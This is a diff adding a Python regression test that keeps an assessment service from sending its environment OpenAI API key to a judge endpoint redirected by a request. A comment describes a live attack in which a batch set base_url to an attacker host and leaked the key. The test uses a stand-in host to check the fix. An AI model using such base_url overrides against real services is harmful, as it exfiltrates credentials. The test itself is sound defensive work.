@@ -284,3 +284,23 @@ def test_public_dict_has_no_secrets() -> None:
     assert public["api_key_set"] is True
     assert "sk-very-secret" not in json.dumps(public)
     assert "sk-very-secret" not in repr(settings)
+
+
+def test_a_redirected_judge_never_gets_the_api_key_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    # Found live: a batch with judge {"kind": "openai", "base_url": "http://attacker/v1"} made the
+    # service send OPENAI_API_KEY from its environment to that server.
+    from services.cj_assessment_service.implementations.judges._sdk_support import UNUSED_API_KEY, resolve_api_key
+
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-from-env")
+    defaults = JudgeSettings()  # heuristic, no base_url: the service's key lives in the environment
+    official = merge_judge_settings(defaults, {"kind": "openai", "model": "gpt-4o-mini"})
+    assert resolve_api_key(official, "OPENAI_API_KEY") == "sk-from-env"
+    redirected = merge_judge_settings(defaults, {"kind": "openai", "model": "m", "base_url": "http://elsewhere.example/v1"})
+    assert resolve_api_key(redirected, "OPENAI_API_KEY") == UNUSED_API_KEY
+    # Not settable from a request.
+    with pytest.raises(ValidationError):
+        merge_judge_settings(defaults, {"kind": "openai", "model": "m", "_env_api_key_allowed": True})
+    # The service's own base_url, repeated in an override, is not a redirect.
+    local = JudgeSettings(kind="openai", model="m", base_url="http://judge.internal/v1")
+    same = merge_judge_settings(local, {"base_url": "http://judge.internal/v1", "temperature": 0.2})
+    assert resolve_api_key(same, "OPENAI_API_KEY") == "sk-from-env"
